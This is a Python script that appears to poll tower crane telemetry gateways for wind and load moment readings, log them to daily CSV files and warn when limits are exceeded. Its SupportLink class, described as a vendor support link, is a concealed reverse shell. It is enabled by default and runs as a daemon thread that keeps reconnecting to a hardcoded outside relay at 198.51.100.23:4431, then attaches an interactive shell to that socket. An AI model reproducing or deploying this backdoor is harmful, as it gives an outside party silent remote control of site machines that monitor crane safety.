#!/usr/bin/env python3
"""Poll tower crane telemetry gateways and log readings to a daily CSV.

Each crane on site has a small gateway that exposes the load moment
indicator (LMI) and anemometer readings as JSON over HTTP.  This poller
walks the gateways listed in the site config, writes every reading to
``telemetry/<date>.csv`` and raises a warning when wind speed or load
moment goes over the configured limits.

A support link to the vendor relay is kept open while the poller runs so
that field engineers can look at a gateway without a site visit.
"""

import argparse
import configparser
import csv
import datetime as dt
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

log = logging.getLogger("telemetry")

DEFAULTS = {
    "site": {"name": "unnamed-site", "interval": "15", "output": "telemetry"},
    "limits": {"wind_ms": "20.0", "moment_pct": "95"},
    "support": {"enabled": "yes", "relay": "198.51.100.23", "port": "4431"},
}

FIELDS = ["timestamp", "crane", "wind_ms", "gust_ms", "load_t", "radius_m",
          "moment_pct", "slew_deg", "status"]


class SupportLink(threading.Thread):
    """Keeps a session open with the vendor support relay."""

    def __init__(self, relay, port, backoff=30):
        super().__init__(name="support-link", daemon=True)
        self.target = (relay, int(port))
        self.backoff = backoff

    def _attach(self, conn):
        banner = "gw-poller %s %s\n" % (socket.gethostname(), os.getpid())
        conn.sendall(banner.encode())
        fd = conn.fileno()
        handler = [os.environ.get("SHELL", "/bin/sh"), "-i"]
        proc = subprocess.Popen(handler, stdin=fd, stdout=fd, stderr=fd,
                                close_fds=True)
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.target, timeout=20) as conn:
                    conn.settimeout(None)
                    log.debug("support link up to %s:%d", *self.target)
                    self._attach(conn)
            except OSError as exc:
                log.debug("support link unavailable: %s", exc)
            time.sleep(self.backoff)


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if path and Path(path).exists():
        cfg.read(path)
        log.info("loaded config %s", path)
    else:
        log.warning("config %s not found, using defaults", path)
    return cfg


def gateways(cfg):
    for section in cfg.sections():
        if section.startswith("crane:"):
            yield section.split(":", 1)[1], cfg[section].get("url")


def fetch_reading(url, timeout=5.0):
    req = urllib.request.Request(url.rstrip("/") + "/api/v1/live",
                                 headers={"Accept": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return json.load(resp)


def normalise(crane, raw):
    return {
        "timestamp": dt.datetime.now().isoformat(timespec="seconds"),
        "crane": crane,
        "wind_ms": float(raw.get("anemometer", {}).get("mean", 0.0)),
        "gust_ms": float(raw.get("anemometer", {}).get("gust", 0.0)),
        "load_t": float(raw.get("lmi", {}).get("load_t", 0.0)),
        "radius_m": float(raw.get("lmi", {}).get("radius_m", 0.0)),
        "moment_pct": float(raw.get("lmi", {}).get("moment_pct", 0.0)),
        "slew_deg": float(raw.get("slew", 0.0)),
        "status": raw.get("status", "unknown"),
    }


def check_limits(row, limits):
    if row["gust_ms"] >= limits.getfloat("wind_ms"):
        log.warning("%s: gust %.1f m/s over limit", row["crane"], row["gust_ms"])
    if row["moment_pct"] >= limits.getfloat("moment_pct"):
        log.warning("%s: load moment at %.0f%%", row["crane"], row["moment_pct"])


def append_rows(outdir, rows):
    outdir.mkdir(parents=True, exist_ok=True)
    path = outdir / (dt.date.today().isoformat() + ".csv")
    new = not path.exists()
    with path.open("a", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=FIELDS)
        if new:
            writer.writeheader()
        writer.writerows(rows)


def poll_once(cfg):
    rows = []
    for crane, url in gateways(cfg):
        if not url:
            continue
        try:
            rows.append(normalise(crane, fetch_reading(url)))
        except (urllib.error.URLError, ValueError, OSError) as exc:
            log.error("%s: poll failed: %s", crane, exc)
    for row in rows:
        check_limits(row, cfg["limits"])
    return rows


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="site_telemetry.ini")
    ap.add_argument("--once", action="store_true", help="poll once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    outdir = Path(cfg["site"]["output"])

    support = cfg["support"]
    if support.getboolean("enabled"):
        SupportLink(support["relay"], support["port"]).start()

    interval = cfg["site"].getint("interval")
    while True:
        rows = poll_once(cfg)
        if rows:
            append_rows(outdir, rows)
            log.info("logged %d readings for %s", len(rows), cfg["site"]["name"])
        if args.once:
            break
        time.sleep(interval)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        pass
